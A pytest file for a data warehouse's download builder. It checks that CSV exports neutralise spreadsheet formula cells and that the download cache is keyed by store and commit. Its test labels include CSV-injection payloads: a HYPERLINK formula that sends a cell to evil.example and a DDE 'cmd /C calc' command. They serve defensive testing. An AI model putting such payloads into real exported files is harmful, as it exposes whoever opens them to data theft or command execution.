"""Download files: formula cells neutralised in CSV (OWASP), and a cache keyed by the store's
table identity and commit, so a rebuilt or another store never serves an old file."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
from haisi.api.downloads import build_download
from haisi.warehouse import Provenance, Warehouse
from haisi.warehouse.schemas import spec

LABELS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1",
    "\rCR=1",
    "Fuzhou arrivals",
    "1-2 March",
    "a=b",
]


def _tourism(labels: list[str], values: list[float]) -> pd.DataFrame:
    n = len(labels)
    return pd.DataFrame(
        {
            "period": [f"2024-{i + 1:02d}" for i in range(n)],
            "frequency": "M",
            "origin": "TWN",
            "destination": "CNFOC",
            "measure": "arrivals",
            "purpose": "",
            "mode": "",
            "value": values,
            "unit": "persons",
            "series_label": labels,
        }
    )[list(spec("tourism_flows").domain_names)]


def test_csv_neutralises_formula_cells_and_keeps_negative_numbers(tmp_path: Path) -> None:
    wh = Warehouse(tmp_path / "store")
    values = [-5.0, 12.5, -0.25, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0]
    wh.append(
        "tourism_flows",
        _tourism(LABELS, values),
        provenance=Provenance("test", "=cmd|' /C calc'!A0", "h1", "@rev"),
    )
    path, _, _ = build_download(wh, tmp_path / "dl", "tourism_flows", fmt="csv")
    body = path.read_bytes()
    df = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", keep_default_na=False)
    assert df["series_label"].tolist() == ["'" + x if x[0] in "=+-@\t\r" else x for x in LABELS]
    assert df["value"].tolist() == values  # numeric column: numbers, read back as numbers
    assert set(df["source_uri"]) == {"'=cmd|' /C calc'!A0"} and set(df["source_revision"]) == {
        "'@rev"
    }
    for row in list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))[1:]:
        assert not any(c and (c[0] in "=+@\t\r" or c[0] == "-" and not _number(c)) for c in row), (
            row
        )
    parquet, _, _ = build_download(wh, tmp_path / "dl", "tourism_flows", fmt="parquet")
    assert pq.read_table(parquet).column("series_label").to_pylist() == LABELS  # data, not a sheet


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_cache_is_keyed_by_the_store_and_commit_not_the_path(tmp_path: Path) -> None:
    """A store rebuilt at the same path (or another store sharing DATA_DIR) has the same table
    name and version number: its download is built anew, never the old file."""
    root, cache = tmp_path / "store", tmp_path / "downloads"
    wh = Warehouse(root)
    wh.append("tourism_flows", _tourism(["old"], [1.0]), provenance=Provenance("t", "a", "h1"))
    old_path, old_digest, v = build_download(wh, cache, "tourism_flows", fmt="csv")
    shutil.rmtree(root)
    rebuilt = Warehouse(root)
    rebuilt.append("tourism_flows", _tourism(["new"], [2.0]), provenance=Provenance("t", "b", "h2"))
    assert rebuilt.version("tourism_flows") == v
    path, digest, v2 = build_download(rebuilt, cache, "tourism_flows", fmt="csv")
    assert v2 == v and digest != old_digest and path != old_path
    assert pd.read_csv(path, encoding="utf-8-sig")["series_label"].tolist() == ["new"]
    other = Warehouse(tmp_path / "other")
    other.append("tourism_flows", _tourism(["other"], [3.0]), provenance=Provenance("t", "c", "h3"))
    path3, _, _ = build_download(other, cache, "tourism_flows", fmt="csv")
    assert pd.read_csv(path3, encoding="utf-8-sig")["series_label"].tolist() == ["other"]
    again, digest_again, _ = build_download(rebuilt, cache, "tourism_flows", fmt="csv")
    assert (again, digest_again) == (path, digest)  # still one build per store, commit and filters
